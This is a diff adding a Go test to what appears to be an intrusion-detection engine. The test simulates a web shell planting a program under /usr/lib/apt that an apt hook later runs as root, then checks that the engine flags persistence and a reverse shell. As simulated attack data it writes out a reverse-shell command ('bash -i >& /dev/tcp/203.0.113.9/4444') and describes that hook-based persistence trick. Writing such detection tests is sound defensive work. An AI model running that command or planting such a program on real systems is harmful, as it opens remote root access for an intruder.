@@ -336,3 +336,36 @@ func TestGitFetchOverSSH(t *testing.T) {
 		}
 	}
 }
+
+// TestProgramPlantedAndRun: a program the web server's shell copies into
+// the system's folders is planted (stage 5); when a hook runs it later as
+// root, outside any web context, that run is the plant firing, the run
+// acts for the intrusion, and a reverse shell it starts is the backdoor
+// calling back (stage 7, titled so). An administrator's copy is neither.
+func TestProgramPlantedAndRun(t *testing.T) {
+	prog := "/usr/lib/apt/apt-helper-sync"
+	e, s := webShellScene(t)
+	f := findingOf(e.Observe(s.exec(210, 201, 0, "root", "/", "/usr/bin/install", "install", "-m", "755", "/dev/shm/.p/s", prog), s.tree), "web-program-planted")
+	if f == nil || f.Stage != StagePersistence || f.Severity < SeverityHigh {
+		t.Fatalf("install into /usr/lib from the web shell: %v, want web-program-planted, stage 5, high", f)
+	}
+	// apt's hook, hours later: a root shell under apt (no web server
+	// among its ancestors) runs the program by the interpreter
+	s.exec(400, 1, 0, "root", "/", "/usr/bin/apt-get", "apt-get", "install", "--reinstall", "x")
+	s.exec(401, 400, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "if [ -x "+prog+" ]; then setsid -f "+prog+"; fi")
+	run := findingOf(e.Observe(s.exec(402, 401, 0, "root", "/", "/usr/bin/php8.2", "/usr/bin/php", prog), s.tree), "planted-file-run")
+	if run == nil || run.Stage != StagePersistence {
+		t.Fatalf("the hook running the planted program: %v, want planted-file-run on stage 5", run)
+	}
+	rs := findingOf(e.Observe(s.exec(403, 402, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), s.tree), "web-server-reverse-shell")
+	if rs == nil || rs.Stage != StageCommandAndControl || rs.Title != "Reverse Shell Started By A Planted File" {
+		t.Fatalf("a reverse shell the planted program starts: %v, want stage 7, titled as started by a planted file", rs)
+	}
+
+	// the same copy by an administrator in their own login: no plant
+	e2, s2 := webShellScene(t)
+	s2.exec(500, 1, 0, "root", "/root", "/usr/bin/bash", "-bash")
+	if f := findingOf(e2.Observe(s2.exec(501, 500, 0, "root", "/root", "/usr/bin/install", "install", "-m", "755", "/root/s", prog), s2.tree), "web-program-planted"); f != nil {
+		t.Errorf("an administrator's install: %s fired", f.Title)
+	}
+}
